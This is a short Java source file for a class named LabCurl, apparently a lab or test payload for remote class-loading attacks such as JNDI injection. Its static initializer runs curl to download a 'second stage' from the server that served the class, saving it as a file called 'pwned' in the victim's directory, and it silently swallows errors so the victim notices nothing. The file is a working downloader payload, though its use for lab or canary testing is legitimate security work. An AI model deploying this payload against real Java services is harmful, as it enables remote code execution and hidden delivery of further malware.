import java.util.Hashtable;
import javax.naming.Context;
import javax.naming.Name;
import javax.naming.spi.ObjectFactory;

/**
 * A downloader payload: its static initializer runs {@code curl -s -o pwned <codebase>canary},
 * fetching a "second stage" from the server it was itself loaded from (its code source) into
 * the canary file {@code pwned} in the victim's working directory.
 */
public class LabCurl implements ObjectFactory {
    static {
        try {
            String codebase =
                    LabCurl.class.getProtectionDomain().getCodeSource().getLocation().toString();
            Runtime.getRuntime()
                    .exec(new String[] {"curl", "-s", "-o", "pwned", codebase + "canary"});
        } catch (Exception e) {
            // A payload keeps quiet: the victim must not notice anything.
        }
    }

    @Override
    public Object getObjectInstance(Object obj, Name name, Context ctx, Hashtable<?, ?> env) {
        return "pwned-by-LabCurl";
    }
}
